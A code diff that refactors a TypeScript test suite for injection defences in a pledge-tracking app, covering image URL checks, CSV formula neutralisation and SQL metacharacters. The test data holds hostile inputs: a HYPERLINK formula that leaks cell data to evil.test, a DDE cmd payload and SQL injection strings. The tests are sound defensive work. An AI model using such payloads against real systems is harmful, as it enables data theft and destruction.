@@ -1,34 +1,24 @@
 import { randomUUID } from 'node:crypto';
 import { parse } from 'csv-parse/sync';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { uploadImage } from '../fixtures';
-import { startTestApp, type TestApp } from '../helpers/test-app';
-import { adminPledge, adminPledges, createPledge, pledgeBody } from './support/http';
+import { describe, expect, test } from '../support/fixtures';
+import { adminPledge, adminPledges, createPledge, pledgeBody, uploadImage } from '../support/api';
 
 /** Cells a spreadsheet would run as a formula (OWASP CSV injection). */
 const FORMULA_START = /^[=+\-@\t\r]/;
 
 /** Threats 21-23: injection into URLs, spreadsheets and SQL. */
 describe('injection', () => {
-  let t: TestApp;
-  let cookie: string;
   let imageUrl: string;
   let updateId: string;
-  beforeAll(async () => {
-    t = await startTestApp();
-    cookie = await t.login();
+  test.beforeAll(async ({ app: t, adminClient: { cookie }, update }) => {
     imageUrl = await uploadImage(t, cookie);
-    const res = await t.request('/api/updates', {
-      method: 'POST',
-      cookie,
-      json: { imageUrl, recipient: 'Shelter', containerCount: 5, deliveryDate: '2025-01-05' },
-    });
-    expect(res.status).toBe(201);
-    updateId = ((await res.json()) as { id: string }).id;
+    ({ id: updateId } = await update({ imageUrl }));
   });
-  afterAll(() => t.close());
 
-  it('21. imageUrl: only our own uploaded object URLs are accepted', async () => {
+  test('21. imageUrl: only our own uploaded object URLs are accepted', async ({
+    app: t,
+    adminClient: { cookie },
+  }) => {
     const own = new URL(imageUrl);
     const id = own.pathname.split('/').pop()!;
     const bad = [
@@ -80,7 +70,10 @@ describe('injection', () => {
     expect(ok.status).toBe(201);
   });
 
-  it('22. CSV: formula-looking cells are neutralised and the file parses back to the same values', async () => {
+  test('22. CSV: formula-looking cells are neutralised and the file parses back to the same values', async ({
+    app: t,
+    adminClient: { cookie },
+  }) => {
     const names = [
       '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
       "=cmd|' /C calc'!A0",
@@ -137,7 +130,10 @@ describe('injection', () => {
     expect(admin.some((p) => p.name === 'Sam "The Man" O\'Neil')).toBe(true);
   });
 
-  it('23. SQL metacharacters in every text field are stored and shown verbatim', async () => {
+  test('23. SQL metacharacters in every text field are stored and shown verbatim', async ({
+    app: t,
+    adminClient: { cookie },
+  }) => {
     const nasty = [
       "Robert'); DROP TABLE pledges;--",
       "' OR '1'='1",
